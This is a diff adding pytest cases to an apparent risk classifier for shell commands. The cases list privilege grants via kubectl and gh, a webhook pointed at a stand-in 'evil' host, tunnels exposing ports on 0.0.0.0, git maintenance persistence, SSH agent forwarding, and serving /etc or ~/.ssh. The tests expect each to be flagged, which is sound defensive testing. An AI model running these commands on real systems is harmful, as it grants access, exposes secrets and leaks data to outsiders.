@@ -295,3 +295,97 @@ def test_a_policy_document_from_a_file_is_read_and_an_unread_one_counts_as_publi
         assert server.risk is SYS, command  # the adapter sends what it read
         unread = classify(command, contained=False, workspace=workspace)
         assert unread.risk is DES, command  # nothing reported: fail closed
+
+
+# -- grants through other verbs, services opened to other machines, scheduled git -----------------------------------
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("kubectl set subject clusterrolebinding cluster-admin --user=me", "privilege-grant"),
+        (
+            "kubectl patch clusterrolebinding cluster-admin --type=json "
+            """-p '[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"me"}}]'""",
+            "privilege-grant",
+        ),
+        ("kubectl edit clusterrolebinding cluster-admin", "privilege-grant"),
+        ("kubectl edit role/x", "privilege-grant"),
+        ("kubectl auth reconcile -f rbac.yaml --remove-extra-subjects", "privilege-grant"),
+        ("kubectl certificate approve csr-x", "privilege-grant"),
+        ("kubectl label ns default pod-security.kubernetes.io/enforce=privileged --overwrite", "privilege-grant"),
+        ("gh ssh-key add ~/.ssh/id_rsa.pub", "privilege-grant"),
+        ("gh gpg-key add x", "privilege-grant"),
+        ("glab ssh-key add k.pub", "privilege-grant"),
+        ("gh api repos/x/y/hooks -f config[url]=https://evil", "privilege-grant"),
+        ("gh api user/keys -f key=x", "privilege-grant"),
+        ("tailscale funnel 8080", "inbound-tunnel"),
+        ("kubectl proxy --address 0.0.0.0 --accept-hosts '.*'", "inbound-tunnel"),
+        ("kubectl port-forward --address 0.0.0.0 pod/x 8080:80", "inbound-tunnel"),
+        ("ssh -D 0.0.0.0:1080 host", "inbound-tunnel"),
+        ("ssh -L 0.0.0.0:2222:localhost:22 host", "inbound-tunnel"),
+        ("ssh -L '*:2222:localhost:22' host", "inbound-tunnel"),
+        ("ssh -g -L 2222:localhost:22 host", "inbound-tunnel"),
+        ("git maintenance start", "persistence"),
+        ("git maintenance start --scheduler=crontab", "persistence"),
+        ("git maintenance register", "persistence"),
+    ],
+)
+def test_grants_exposures_and_scheduled_git_are_destructive(workspace: Path, command: str, rule: str) -> None:
+    level, found = graded(command, workspace)
+    assert level is DES, found
+    assert rule in found
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("kubectl set image deploy/x x=y", SYS),
+        ("kubectl patch deployment x -p '{}'", SYS),
+        ("kubectl edit deploy x", SYS),
+        ("kubectl auth reconcile -f rbac.yaml", SYS),
+        ("kubectl auth can-i get pods", NET),
+        ("kubectl certificate deny csr-x", SYS),
+        ("kubectl label ns default pod-security.kubernetes.io/enforce=restricted", SYS),
+        ("kubectl label pod x app=web", SYS),
+        ("gh ssh-key list", NET),
+        ("gh api repos/x/y/hooks", NET),
+        ("gh api repos/x/y/issues -f title=x", SYS),
+        ("tailscale funnel status", SYS),
+        ("tailscale serve 8080", SYS),
+        ("kubectl proxy", SYS),
+        ("kubectl proxy --address=127.0.0.1", SYS),
+        ("kubectl port-forward pod/x 8080:80", SYS),
+        ("ssh -D 1080 host", NET),
+        ("ssh -L 8080:localhost:80 host", NET),
+        ("ssh -L 127.0.0.1:8080:localhost:80 host", NET),
+        ("ssh -N -L 5432:db:5432 bastion", NET),
+        ("git maintenance stop", SYS),
+        ("git maintenance run --task=gc", RiskLevel.WORKSPACE_WRITE),
+    ],
+)
+def test_neighbours_of_grants_exposures_and_scheduled_git_keep_their_grade(
+    workspace: Path, command: str, level: RiskLevel
+) -> None:
+    assert graded(command, workspace)[0] is level
+
+
+@pytest.mark.parametrize(
+    ("command", "level", "rule"),
+    [
+        ("ssh -A host id", SYS, "credential-forwarding"),
+        ("ssh -o ForwardAgent=yes host", SYS, "credential-forwarding"),
+        ("ssh -Y host", SYS, "credential-forwarding"),
+        ("ssh -o ForwardX11Trusted=yes -X host", SYS, "credential-forwarding"),
+        ("ssh -o ForwardAgent=no host id", NET, "network-egress"),
+        ("ssh -X host", NET, "network-egress"),
+        ("http-server / -p 8080", DES, "serves-secrets"),
+        ("http-server ~", DES, "serves-secrets"),
+        ("http-server /etc", DES, "serves-secrets"),
+        ("http-server ~/.ssh -a 0.0.0.0", DES, "serves-secrets"),
+        ("http-server ./dist -p 8080", NET, "network-egress"),
+        ("http-server . -a 0.0.0.0", NET, "network-egress"),
+    ],
+)
+def test_forwarded_credentials_and_served_homes(workspace: Path, command: str, level: RiskLevel, rule: str) -> None:
+    found_level, found = graded(command, workspace)
+    assert found_level is level, found
+    assert rule in found
